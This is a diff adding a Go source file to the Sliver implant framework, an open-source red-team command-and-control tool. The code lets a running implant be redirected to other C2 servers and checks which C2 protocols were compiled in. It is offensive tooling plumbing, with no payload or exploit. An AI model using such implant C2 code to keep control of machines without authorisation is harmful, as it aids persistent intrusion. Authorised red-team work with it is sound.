@@ -0,0 +1,106 @@
+package transports
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"net/url"
+	"sync"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+)
+
+var (
+	// ErrUnsupportedC2 - The c2's protocol isn't compiled into the implant
+	ErrUnsupportedC2 = errors.New("unsupported protocol")
+
+	redirectMutex = &sync.RWMutex{}
+	redirectC2s   []string
+)
+
+// Redirect - Replace the C2s from generate time with others until the implant
+// restarts, e.g. to move it to another server. No C2s clears the override.
+// Takes effect the next time the implant connects, see Reconnect
+func Redirect(c2s []string) error {
+	for _, c2 := range c2s {
+		uri, err := url.Parse(c2)
+		if err != nil {
+			return err
+		}
+		if !supportedC2(uri.Scheme) {
+			return ErrUnsupportedC2
+		}
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[redirect] c2s = %v", c2s)
+	// {{end}}
+	redirectMutex.Lock()
+	redirectC2s = c2s
+	redirectMutex.Unlock()
+	return nil
+}
+
+// RedirectC2s - The C2s the implant was redirected to, if any
+func RedirectC2s() []string {
+	redirectMutex.RLock()
+	defer redirectMutex.RUnlock()
+	return redirectC2s
+}
+
+// ReconnectC2 - The C2 to reconnect to after Reconnect, the active C2 unless the
+// implant was redirected
+func ReconnectC2(activeC2 string) string {
+	if c2s := RedirectC2s(); 0 < len(c2s) {
+		return c2s[0]
+	}
+	return activeC2
+}
+
+// supportedC2 - Is the protocol compiled into the implant
+func supportedC2(scheme string) bool {
+	switch scheme {
+	// {{if .Config.MTLSc2Enabled}}
+	case "mtls":
+		return true
+	// {{end}}
+	// {{if .Config.WGc2Enabled}}
+	case "wg":
+		return true
+	// {{end}}
+	// {{if .Config.HTTPc2Enabled}}
+	case "http", "https":
+		return true
+	// {{end}}
+	// {{if .Config.DNSc2Enabled}}
+	case "dns":
+		return true
+	// {{end}}
+	// {{if .Config.ICMPc2Enabled}}
+	case "icmp":
+		return true
+	// {{end}}
+	// {{if .Config.UDPc2Enabled}}
+	case "udp":
+		return true
+		// {{end}}
+	}
+	return false
+}